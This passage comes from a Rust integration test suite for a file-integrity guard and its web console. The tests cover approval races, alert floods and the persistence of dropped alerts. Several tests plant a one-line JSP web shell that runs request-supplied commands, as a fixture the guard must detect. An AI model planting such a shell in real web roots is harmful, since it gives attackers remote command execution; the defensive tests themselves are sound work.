        .expect("address");
    let addresses = MAX_CONNECTIONS.div_ceil(MAX_CONNECTIONS_PER_ADDRESS);
    let mut held = Vec::new();
    for a in 0..addresses {
        // 127.0.0.2 and up: other client addresses on the loopback.
        let local: std::net::SocketAddr = format!("127.0.0.{}:0", a + 2).parse().expect("local");
        for _ in 0..MAX_CONNECTIONS_PER_ADDRESS {
            let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)
                .expect("socket");
            socket.bind(&local.into()).expect("bind");
            socket.connect(&target.into()).expect("connect");
            held.push(socket);
        }
    }
    assert!(held.len() >= MAX_CONNECTIONS);
    assert!(
        server.wait_for("every one of MAX_CONNECTIONS", Duration::from_secs(30)),
        "{}",
        server.stderr()
    );
    let log = server.stderr();
    assert!(
        log.contains(&format!("held by {addresses} client address(es)")),
        "{log}"
    );
    drop(held);
    server.stop();
}

/// An approver accepts what the page showed them, nothing else: found in review, a file
/// dropped into the tree while the approver read the differences page was taken into
/// the signed profile with the reviewed patch ("2 difference(s)" for one shown). Now
/// the acceptance is refused, nothing is signed, and the page shows both to decide on.
#[test]
fn a_difference_that_arrives_while_the_approver_reads_is_not_accepted_unseen() {
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let wait_reported = |name: &str| {
        let deadline = Instant::now() + Duration::from_secs(60);
        while !server.stdout().contains(name) {
            assert!(Instant::now() < deadline, "{}", server.stdout());
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    std::fs::write(env.path("readme.txt"), b"vendor patch 7 text\n").expect("patch");
    wait_reported("readme.txt");
    let (_, _, body) = server.curl("GET", "/differences", &[]);
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    // The page the approver reads: the patch only.
    let (_, _, page) = server.curl("GET", "/differences", &[]);
    assert!(
        page.contains("readme.txt") && !page.contains("dropper.exe"),
        "{page}"
    );
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&page, "name=\"seen\" value=\"", '"');
    // Meanwhile something else lands in the tree, and the guard reports it.
    std::fs::write(env.path("dropper.exe"), b"MZ not reviewed").expect("drop");
    wait_reported("dropper.exe");
    let root = env.tree_str();
    let accept = |csrf: &str, seen: &str| {
        server.curl(
            "POST",
            "/differences/accept",
            &[
                ("csrf", csrf),
                ("root", root),
                ("reason", "vendor patch 7"),
                ("seen", seen),
            ],
        )
    };
    let (status, _, body) = accept(&csrf, &seen);
    assert_eq!(status, 400, "{body}");
    assert!(
        body.contains("changed since this page was shown") && body.contains("dropper.exe"),
        "{body}"
    );
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(1), "nothing was accepted");
    assert!(stdout(&check).contains("dropper.exe"), "{}", stdout(&check));
    // Reviewed again, both are accepted knowingly.
    let seen = value_of(&body, "name=\"seen\" value=\"", '"');
    let (status, _, body) = accept(&csrf, &seen);
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("2 difference(s)"), "{body}");
    server.stop();
}

/// Steps up the signed-in administrator and accepts what `/differences` shows for the
/// tree: the answer's status and body.
fn accept_what_the_page_shows(
    server: &Server,
    env: &Env,
    secret: &str,
    reason: &str,
) -> (u16, String) {
    let (_, _, body) = server.curl("GET", "/differences", &[]);
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, page) = server.curl("GET", "/differences", &[]);
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&page, "name=\"seen\" value=\"", '"');
    let (status, _, body) = server.curl(
        "POST",
        "/differences/accept",
        &[
            ("csrf", &csrf),
            ("root", env.tree_str()),
            ("reason", reason),
            ("seen", &seen),
        ],
    );
    (status, body)
}

/// More findings than the console keeps (`MAX_OPEN_FINDINGS`: a vendor installer
/// writing 1,001 files), settled by `pacsguard accept` beside the running serve (relayed
/// to its guard): the console closes them and, for a later ordinary difference, its page
/// is acceptable again. Before (review s35), the count of dropped findings was global
/// and never reset, and a relayed acceptance did not tell the console: every acceptance
/// from any page was refused ("dropped past the 1000") until `serve` restarted.
#[test]
fn a_flood_settled_beside_the_console_leaves_its_page_acceptable_again() {
    use pacsguard_console::guard::MAX_OPEN_FINDINGS;
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let flood = env.path("vendor");
    std::fs::create_dir(&flood).expect("dir");
    for i in 0..=MAX_OPEN_FINDINGS {
        std::fs::write(flood.join(format!("{i}.dll")), b"vendor library").expect("write");
    }
    let deadline = Instant::now() + Duration::from_secs(300);
    loop {
        let (_, _, page) = server.curl("GET", "/differences", &[]);
        if page.contains("-dropped\"") {
            break;
        }
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(500));
    }
    let accept = env.run(&["accept", "--all", "--reason", "vendor installer 9.1"]);
    assert_eq!(accept.status.code(), Some(0), "{}", stderr(&accept));
    let (_, _, page) = server.curl("GET", "/differences", &[]);
    assert!(
        !page.contains("-dropped\"") && !page.contains("1000.dll"),
        "the flood settled by the relayed acceptance is still open: {}",
        &page[..page.len().min(3000)]
    );

    std::fs::write(env.path("readme.txt"), b"vendor patch 8 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let (status, body) = accept_what_the_page_shows(&server, &env, &secret, "vendor patch 8");
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("1 difference(s)"), "{body}");
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    server.stop();
}

/// A flood undone (the 1,001 files removed again) and a full `pacsguard check` beside
/// the running serve that finds the root intact settles what the console dropped: a
/// later ordinary difference is acceptable from the page again (the findings still
/// shown stay open until then). Before (review s35), only a restart did.
#[test]
fn a_root_found_intact_by_a_relayed_check_is_acceptable_from_the_page_again() {
    use pacsguard_console::guard::MAX_OPEN_FINDINGS;
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let flood = env.path("vendor");
    std::fs::create_dir(&flood).expect("dir");
    for i in 0..=MAX_OPEN_FINDINGS {
        std::fs::write(flood.join(format!("{i}.dll")), b"vendor library").expect("write");
    }
    let deadline = Instant::now() + Duration::from_secs(300);
    while !server
        .curl("GET", "/differences", &[])
        .2
        .contains("-dropped\"")
    {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(500));
    }
    std::fs::remove_dir_all(&flood).expect("undone");
    // The guard says each file and the directory gone (as info: never profiled).
    let gone = |out: &str| {
        out.lines()
            .filter(|l| l.contains("/vendor") && l.contains(" removed "))
            .count()
    };
    let deadline = Instant::now() + Duration::from_secs(300);
    while gone(&server.stdout()) < MAX_OPEN_FINDINGS + 2 {
        assert!(Instant::now() < deadline, "{}", gone(&server.stdout()));
        std::thread::sleep(Duration::from_millis(500));
    }
    // `--fast` trusts stat and settles nothing.
    let check = env.run(&["check", "--fast"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    let (_, _, page) = server.curl("GET", "/differences", &[]);
    assert!(page.contains("-dropped\""), "not settled by --fast");
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    let (_, _, page) = server.curl("GET", "/differences", &[]);
    assert!(
        !page.contains("-dropped\""),
        "settled: {}",
        &page[..page.len().min(3000)]
    );

    std::fs::write(env.path("readme.txt"), b"vendor patch 10 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let (status, body) = accept_what_the_page_shows(&server, &env, &secret, "vendor patch 10");
    assert_eq!(status, 200, "{}", &body[..body.len().min(3000)]);
    assert!(
        body.contains("1 difference(s)"),
        "{}",
        &body[..body.len().min(3000)]
    );
    server.stop();
}

/// Review rv39 end to end: a web shell planted and deleted in a `static` root, then a
/// vendor update's flood of 1,001 new files (each an alert there) drops the shell's
/// alert from the pages; `pacsguard accept ROOT` beside the running serve (the README's
/// workflow after a vendor update) takes the update in, but the dropped alerts stay said
/// (the overview shows the root with alerts, the alerts page how many) until an operator
/// acknowledges the count the page showed, which is on the trail. Before, the relayed
/// acceptance forgot them: nothing said the shell ever was.
#[test]
fn a_relayed_accept_of_the_root_after_a_flood_keeps_the_dropped_alerts_until_acknowledged() {
    use pacsguard_console::guard::MAX_OPEN_FINDINGS;
    let env = Env::new();
    env.profile(&["--policy", "static"]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    first_admin(&server);
    let reported = |what: &str, how_many: usize| {
        let deadline = Instant::now() + Duration::from_secs(300);
        loop {
            let seen = server.stdout().lines().filter(|l| l.contains(what)).count();
            if seen >= how_many {
                break;
            }
            assert!(Instant::now() < deadline, "{what}: {seen}");
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    let shell = env.path("cmd.jsp");
    std::fs::write(
        &shell,
        b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    )
    .expect("plant");
    reported("cmd.jsp", 1);
    std::fs::remove_file(&shell).expect("deleted");
    reported(" removed ", 1);
    let vendor = env.path("vendor");
    std::fs::create_dir(&vendor).expect("dir");
    for i in 0..=MAX_OPEN_FINDINGS {
        std::fs::write(vendor.join(format!("{i}.so")), b"vendor library 9.2").expect("write");
    }
    reported(".so", MAX_OPEN_FINDINGS + 1);
    let accept = env.run(&["accept", env.tree_str(), "--reason", "vendor update 9.2"]);
    assert_eq!(accept.status.code(), Some(0), "{}", stderr(&accept));

    let (_, _, page) = server.curl("GET", "/alerts", &[]);
    let section = &page[page.find("id=\"dropped-undone\"").unwrap_or_else(|| {
        panic!(
            "the dropped alerts were forgotten: {}",
            &page[..page.len().min(4000)]
        )
    })..];
    let root = value_of(section, "name=\"root\" value=\"", '"');
    let count = value_of(section, "name=\"count\" value=\"", '"');
    let last = value_of(section, "name=\"last\" value=\"", '"');
    assert_eq!(root, env.tree_str(), "{section}");
    assert!(count.parse::<u64>().is_ok_and(|n| n >= 1), "{count}");
    let (_, _, overview) = server.curl("GET", "/", &[]);
    assert!(overview.contains("data-state=\"alerts\""), "{overview}");
    assert!(overview.contains("undone findings not shown"), "{overview}");

    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let (status, headers, body) = server.curl(
        "POST",
        "/alerts/acknowledge-dropped",
        &[
            ("csrf", &csrf),
            ("root", &root),
            ("count", &count),
            ("last", &last),
            (
                "comment",
                "cmd.jsp found on the trail, host reimaged, ticket 77",
            ),
        ],
    );
    assert!(status == 200 || status == 303, "{status} {headers} {body}");
    let (_, _, page) = server.curl("GET", "/alerts", &[]);
    assert!(
        !page.contains("id=\"dropped-undone\""),
        "{}",
        &page[..page.len().min(4000)]
    );
    let (_, _, overview) = server.curl("GET", "/", &[]);
    assert!(overview.contains("data-state=\"intact\""), "{overview}");
    server.stop();
    let all = stdout(&env.run(&["audit", "show", "--json"]));
    assert!(
        all.contains(&format!("admin acknowledged {count} undone findings of "))
            && all.contains("cmd.jsp found on the trail, host reimaged, ticket 77"),
        "{all}"
    );
}

/// Issue 13, session 40: the dropped alerts a relayed `accept ROOT` kept undone (the
/// test above) survive a restart of `serve`: the stop records their count (and the
/// number of the last one, which the form names) on the trail, the next start reads it
/// back, and the alerts page offers the same acknowledgement; once acknowledged, a
/// further restart does not bring them back. Before, the restart started the count at
/// 0 without a word (seen failing first with the stop's record left out: no section
/// after the restart).
#[test]
fn the_dropped_alerts_not_acknowledged_survive_a_restart_of_serve() {
    use pacsguard_console::guard::MAX_OPEN_FINDINGS;
    let env = Env::new();
    env.profile(&["--policy", "static"]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let reported = |server: &Server, what: &str, how_many: usize| {
        let deadline = Instant::now() + Duration::from_secs(300);
        loop {
            let seen = server.stdout().lines().filter(|l| l.contains(what)).count();
            if seen >= how_many {
                break;
            }
            assert!(Instant::now() < deadline, "{what}: {seen}");
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    let shell = env.path("cmd.jsp");
    std::fs::write(
        &shell,
        b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    )
    .expect("plant");
    reported(&server, "cmd.jsp", 1);
    std::fs::remove_file(&shell).expect("deleted");
    reported(&server, " removed ", 1);
    let vendor = env.path("vendor");
    std::fs::create_dir(&vendor).expect("dir");
    for i in 0..=MAX_OPEN_FINDINGS {
        std::fs::write(vendor.join(format!("{i}.so")), b"vendor library 9.3").expect("write");
    }
    reported(&server, ".so", MAX_OPEN_FINDINGS + 1);
    let accept = env.run(&["accept", env.tree_str(), "--reason", "vendor update 9.3"]);
    assert_eq!(accept.status.code(), Some(0), "{}", stderr(&accept));
    // The section of the alerts page: its root, count and last, as the form posts them.
    let form = |server: &Server| {
        let (_, _, page) = server.curl("GET", "/alerts", &[]);
        page.find("id=\"dropped-undone\"").map(|at| {
            let section = &page[at..];
            (
                value_of(section, "name=\"root\" value=\"", '"'),
                value_of(section, "name=\"count\" value=\"", '"'),
                value_of(section, "name=\"last\" value=\"", '"'),
                value_of(&page, "name=\"csrf\" value=\"", '"'),
            )
        })
    };
    let (root, count, last, _) = form(&server).expect("the dropped alerts are said");
    assert!(count.parse::<u64>().is_ok_and(|n| n >= 1), "{count}");
    let (_, said) = server.stop_said();

    // A session survives the restart; if not, a sign-in with the next TOTP step.
    let signed_in = |server: &Server| {
        if server.curl("GET", "/", &[]).0 != 200 {
            let (status, _, body) = server.curl(
                "POST",
                "/login",
                &[
                    ("name", "admin"),
                    ("password", PASSWORD),
                    ("code", &next_step_code(&secret)),
                ],
            );
            assert_eq!(status, 303, "{body}");
        }
    };
    let server = Server::start(&env, &[]);
    signed_in(&server);
    let (root_after, count_after, last_after, csrf) = form(&server).unwrap_or_else(|| {
        panic!(
            "a restart forgot the dropped alerts: {}\n{}",
            server.curl("GET", "/alerts", &[]).2,
            server.stderr()
        )
    });
    assert_eq!(
        (&root_after, &count_after, &last_after),
        (&root, &count, &last),
        "read back as recorded"
    );
    assert!(
        said.contains("recorded on the trail for the next start"),
        "{said}"
    );
    assert!(
        server.stderr().contains("counted again"),
        "{}",
        server.stderr()
    );
    let (_, _, overview) = server.curl("GET", "/", &[]);
    assert!(overview.contains("data-state=\"alerts\""), "{overview}");
    assert!(!overview.contains("id=\"dropped-unread\""), "{overview}");
    let (status, headers, body) = server.curl(
        "POST",
        "/alerts/acknowledge-dropped",
        &[
            ("csrf", &csrf),
            ("root", &root_after),
            ("count", &count_after),
            ("last", &last_after),
            (
                "comment",
                "cmd.jsp read on the trail after the restart, ticket 78",
            ),
        ],
    );
    assert!(status == 200 || status == 303, "{status} {headers} {body}");
    assert!(form(&server).is_none(), "acknowledged");
    server.stop();

    // The acknowledgement is the newest record of the root's count: not counted again.
    let server = Server::start(&env, &[]);
    signed_in(&server);
    assert!(form(&server).is_none(), "{}", server.stderr());
    let (_, _, overview) = server.curl("GET", "/", &[]);
    assert!(overview.contains("data-state=\"intact\""), "{overview}");
    server.stop();
    let all = stdout(&env.run(&["audit", "show", "--json"]));
    assert!(
        all.contains(&format!("at this stop {count} undone findings of "))
            && all.contains(&format!("admin acknowledged {count} undone findings of ")),
        "{all}"
    );
}

/// Issue 13, session 41: the dropped alerts of a `serve` killed (`kill -9`, the power
/// lost) were recorded only at a clean stop, so the next start counted none and said
/// nothing. `serve` records each root's count as it changes (at most every
/// DROPPED_RECORD_INTERVAL) and marks its run open at its start: after a SIGKILL the
/// next start counts what the killed run recorded and says the run was killed, its
/// count "at least" that (the overview's `dropped-unread`). Seen failing before the
/// change: no section on the alerts page after the restart.
#[test]
fn the_dropped_alerts_of_a_serve_killed_are_counted_again_and_the_kill_said() {
    use pacsguard_console::dropped_trail::DROPPED_RECORD_INTERVAL;
    use pacsguard_console::guard::MAX_OPEN_FINDINGS;
    let env = Env::new();
    env.profile(&["--policy", "static"]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let reported = |server: &Server, what: &str, how_many: usize| {
        let deadline = Instant::now() + Duration::from_secs(300);
        loop {
            let seen = server.stdout().lines().filter(|l| l.contains(what)).count();
            if seen >= how_many {
                break;
            }
            assert!(Instant::now() < deadline, "{what}: {seen}");
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    let shell = env.path("cmd.jsp");
    std::fs::write(
        &shell,
        b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    )
    .expect("plant");
    reported(&server, "cmd.jsp", 1);
    let vendor = env.path("vendor");
    std::fs::create_dir(&vendor).expect("dir");
    for i in 0..=MAX_OPEN_FINDINGS {
        std::fs::write(vendor.join(format!("{i}.so")), b"vendor library 9.4").expect("write");
    }
    reported(&server, ".so", MAX_OPEN_FINDINGS + 1);
    // The root's count on the trail while serve runs (within an interval); waited for
    // a while, not asserted: what the next start says is the test.
    let hex: String = env.tree_str().bytes().map(|b| format!("{b:02x}")).collect();
    let deadline = Instant::now() + DROPPED_RECORD_INTERVAL * 6;
    while Instant::now() < deadline
        && !stdout(&env.run(&["audit", "show", "--json"])).contains(&format!("\"r{hex}:"))
    {
        std::thread::sleep(Duration::from_millis(500));
    }
    // Killed (Drop sends SIGKILL): no stop, nothing recorded at it.
    drop(server);

    let server = Server::start(&env, &[]);
    if server.curl("GET", "/", &[]).0 != 200 {
        let (status, _, body) = server.curl(
            "POST",
            "/login",
            &[
                ("name", "admin"),
                ("password", PASSWORD),
                ("code", &next_step_code(&secret)),
            ],
        );
        assert_eq!(status, 303, "{body}");
    }
    let (_, _, page) = server.curl("GET", "/alerts", &[]);
    let at = page.find("id=\"dropped-undone\"").unwrap_or_else(|| {
        panic!(
            "the killed run's dropped alerts were forgotten: {}\n{}",
            &page[..page.len().min(4000)],
            server.stderr()
        )
    });
    let count = value_of(&page[at..], "name=\"count\" value=\"", '"');
    assert!(count.parse::<u64>().is_ok_and(|n| n >= 1), "{count}");
    // There was no stop: the count is said as the last run left it (review rv42-state).
    assert!(
        server.stderr().contains("counted again")
            && server.stderr().contains("when the last run ended")
            && !server.stderr().contains("at the last stop")
            && !server.stderr().contains("could not be read back whole")
            && server
                .stderr()
                .contains("ended without its stop (killed, or the host lost power)"),
        "{}",
        server.stderr()
    );
    let (_, _, overview) = server.curl("GET", "/", &[]);
    assert!(overview.contains("data-state=\"alerts\""), "{overview}");
    assert!(
        overview.contains("id=\"dropped-unread\"") && overview.contains("at least"),
        "{overview}"
    );
    // A clean stop closes the run: the start after says nothing of a kill.
    server.stop();
    let server = Server::start(&env, &[]);
    assert!(
        !server.stderr().contains("ended without its stop"),
        "{}",
        server.stderr()
    );
    server.stop();
}

/// A web shell planted and deleted again, then a routine full `pacsguard check` beside
/// the running serve that finds the tree as profiled: the alert stays on the alerts
/// page, marked undone, until a person acknowledges it (then it closes); the info of its
/// removal closes. Before (review s35) the check closed the alert: "None." on the alerts
/// page after an intrusion nobody had seen.
#[test]
fn an_intrusion_undone_before_a_routine_check_stays_on_the_alerts_page() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    first_admin(&server);
    let shell = env.path("cmd.jsp");
    std::fs::write(
        &shell,
        b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    )
    .expect("plant");
    let reported = |what: &str| {
        let deadline = Instant::now() + Duration::from_secs(60);
        while !server
            .stdout()
            .lines()
            .any(|l| l.contains("cmd.jsp") && l.contains(what))
        {
            assert!(Instant::now() < deadline, "{}", server.stdout());
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    reported("alert");
    std::fs::remove_file(&shell).expect("undone");
    reported(" removed ");
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    let (_, _, page) = server.curl("GET", "/alerts", &[]);
    let table = &page[page.find("id=\"findings\"").expect("table")..];
    let table = &table[..table.find("</table>").expect("end")];
    assert!(
        table.contains("cmd.jsp") && table.contains("class=\"undone\""),
        "the alert was closed by a routine check: {table}"
    );
    assert_eq!(table.matches("<tr id=\"findings-").count(), 1, "{table}");
    let (_, _, overview) = server.curl("GET", "/", &[]);
    assert!(overview.contains("data-state=\"alerts\""), "{overview}");

    let id = value_of(&page, "<tr id=\"finding-", '"');
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let (status, headers, body) = server.curl(
        "POST",
        "/alerts/acknowledge",
        &[
            ("csrf", &csrf),
            ("id", &id),
            ("comment", "shell found in the access log, host reimaged"),
        ],
    );
    assert!(status == 200 || status == 303, "{status} {headers} {body}");
    let (_, _, page) = server.curl("GET", "/alerts", &[]);
    assert!(
        !page.contains("<tr id=\"findings-0\""),
        "closed once acknowledged: {page}"
    );
    let (_, _, overview) = server.curl("GET", "/", &[]);
    assert!(overview.contains("data-state=\"intact\""), "{overview}");
    server.stop();
}

/// `pacsguard accept` beside a running serve signs only what the guard verified and
/// reported, as the console's acceptance does (review s35): a reported file rewritten
/// afterwards (its writer still at work, not verified yet) is refused by name, and
/// nothing is accepted. Before, the relayed acceptance walked the tree and signed the
/// unseen content in ("accepted 1 differences", `check` intact).
#[test]
fn a_relayed_cli_accept_signs_only_what_the_guard_reported() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "quiet_ms = 30000\nscrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    std::fs::write(env.path("readme.txt"), b"vendor patch 9 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let mut evil = std::fs::OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(env.path("readme.txt"))
        .expect("open");
    std::io::Write::write_all(&mut evil, b"EVIL 9x!!!\n").expect("write");
    let accept = env.run(&["accept", "--all", "--reason", "vendor patch 9"]);
    assert_eq!(accept.status.code(), Some(2), "{}", stdout(&accept));
    assert!(
        stderr(&accept).contains("readme.txt") && stderr(&accept).contains("changed since"),
        "{}",
        stderr(&accept)
    );
    drop(evil);
    let check = env.run(&["check"]);
    assert_eq!(
        check.status.code(),
        Some(1),
        "the unseen content was not signed in: {}",
        stdout(&check)
    );
    server.stop();
}

/// Commands beside the guard past MAX_CONTROL_CONNECTIONS are refused with words: found
/// in review, while 40 clients held the socket with half-sent requests, `check` said
/// only "connection reset by peer" (the refusal was written to a socket closed with the
/// request unread, which resets the reader).
#[test]
fn a_command_past_the_control_connections_limit_is_refused_with_a_reason() {
    use std::io::Write as _;
    /// `control::MAX_CONTROL_CONNECTIONS` of the binary (not importable from here).
    const MAX_CONTROL_CONNECTIONS: usize = 32;
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let socket = env.home.join("control.sock");
    let hold = || {
        let mut stream = std::os::unix::net::UnixStream::connect(&socket).expect("connect");
        stream.write_all(b"{\"command\":").expect("half a request");
        stream
    };
    // One below the limit: the command is served.
    let mut held: Vec<std::os::unix::net::UnixStream> =
        (0..MAX_CONTROL_CONNECTIONS - 1).map(|_| hold()).collect();
    std::thread::sleep(Duration::from_millis(500));
    let check = env.run(&["check", "--fast"]);
    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
    assert!(
        !server.stderr().contains("refused a command"),
        "{}",
        server.stderr()
    );
    // At the limit: refused, with words.
    held.push(hold());
    std::thread::sleep(Duration::from_millis(500));
    let check = env.run(&["check", "--fast"]);
    assert_eq!(check.status.code(), Some(2), "{}", stderr(&check));
    assert!(
        stderr(&check).contains("MAX_CONTROL_CONNECTIONS"),
        "{}",
        stderr(&check)
    );
    // The log line is printed by the server's own output thread, which may come after the
    // refused command has returned (this failed once on a loaded machine).
    assert!(
        server.wait_for(
            "refused a command on the control socket",
            Duration::from_secs(10)
        ),
        "the refusal is logged: {}",
        server.stderr()
    );
    drop(held);
    server.stop();
}

/// Four eyes cannot be walked around from root's shell: `pacsguard accept` relayed to the
/// running guard for a `static` root under `[console] four_eyes` is refused with where
/// to ask instead, and nothing is signed in (the difference is still reported).
#[test]
fn a_relayed_cli_accept_into_a_four_eyes_root_is_refused() {
    let env = Env::new();
    env.profile(&["--policy", "static"]);
    let path = env.home.join("config.toml");
    let mut text = std::fs::read_to_string(&path).expect("config");
    text.push_str("\n[console]\nfour_eyes = true\n");
    std::fs::write(&path, text).expect("config");
    let server = Server::start(&env, &[]);
    std::fs::write(env.path("readme.txt"), b"patched text\n").expect("patch");
    for args in [
        vec!["accept", "--all", "--reason", "alone"],
        vec!["accept", env.tree_str(), "--reason", "alone"],
    ] {
        let accept = env.run(&args);
        assert_eq!(accept.status.code(), Some(2), "{}", stdout(&accept));
        assert!(
            stderr(&accept).contains("four eyes")
                && stderr(&accept).contains("Nothing was accepted"),
            "{}",
            stderr(&accept)
        );
    }
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(1), "{}", stdout(&check));
    assert!(stdout(&check).contains("readme.txt"), "{}", stdout(&check));
    server.stop();
}

/// The engine takes in only what the person was shown: a change the guard has not
/// reported yet (its writer still has the file open, inside the quiet period) is found
/// by the acceptance's own comparison, and then nothing is accepted. Before, the page
/// showed no difference and the acceptance signed the unseen change in.
#[test]
fn a_difference_not_yet_reported_is_not_accepted_with_what_was_shown() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "quiet_ms = 30000\nscrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let mut unseen = std::fs::OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(env.path("readme.txt"))
        .expect("open");
    std::io::Write::write_all(&mut unseen, b"not reviewed\n").expect("write");
    let (_, _, body) = server.curl("GET", "/differences", &[]);
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, page) = server.curl("GET", "/differences", &[]);
    assert!(!page.contains("readme.txt"), "not reported yet: {page}");
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&page, "name=\"seen\" value=\"", '"');
    let (status, _, body) = server.curl(
        "POST",
        "/differences/accept",
        &[
            ("csrf", &csrf),
            ("root", env.tree_str()),
            ("reason", "nothing to see"),
            ("seen", &seen),
        ],
    );
    assert_eq!(status, 400, "{body}");
    assert!(
        body.contains("not among those shown") && body.contains("readme.txt"),
        "{body}"
    );
    let check = env.run(&["check"]);
    assert_eq!(
        check.status.code(),
        Some(1),
        "nothing was accepted: {}",
        stdout(&check)
    );
    drop(unseen);
    server.stop();
}

/// An acceptance signs only the content its approver was shown, not only the paths: a
/// file rewritten after the page was drawn (here while its writer holds it open, inside
/// the quiet period, so the guard has not reported the second write yet) is refused as
/// changed since it was shown, and the profile never holds the unseen content. Before,
/// the path was among those shown and the rewritten content was signed in (a read-only
/// review: generations held the BLAKE3 of `EVIL 2x!!!`). Reviewed again once the guard
/// reported it, it is accepted knowingly.
#[test]
fn content_rewritten_after_the_page_was_shown_is_not_signed_in() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "quiet_ms = 30000\nscrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    std::fs::write(env.path("readme.txt"), b"vendor patch 7 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let (_, _, body) = server.curl("GET", "/differences", &[]);
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, page) = server.curl("GET", "/differences", &[]);
    assert!(page.contains("readme.txt"), "{page}");
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&page, "name=\"seen\" value=\"", '"');
    // After the page was drawn, the shown file is rewritten (held open: not reported).
    let mut evil = std::fs::OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(env.path("readme.txt"))
        .expect("open");
    std::io::Write::write_all(&mut evil, b"EVIL 2x!!!\n").expect("write");
    let root = env.tree_str();
    let accept = |csrf: &str, seen: &str| {
        server.curl(
            "POST",
            "/differences/accept",
            &[
                ("csrf", csrf),
                ("root", root),
                ("reason", "vendor patch 7"),
                ("seen", seen),
            ],
        )
    };
    let (status, _, body) = accept(&csrf, &seen);
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("changed since"), "{body}");
    drop(evil);
    let check = env.run(&["check"]);
    assert_eq!(
        check.status.code(),
        Some(1),
        "the unseen content was not signed in: {}",
        stdout(&check)
    );
    // Once the guard reported the second write, the page shows it, and an acceptance of
    // what it shows now passes.
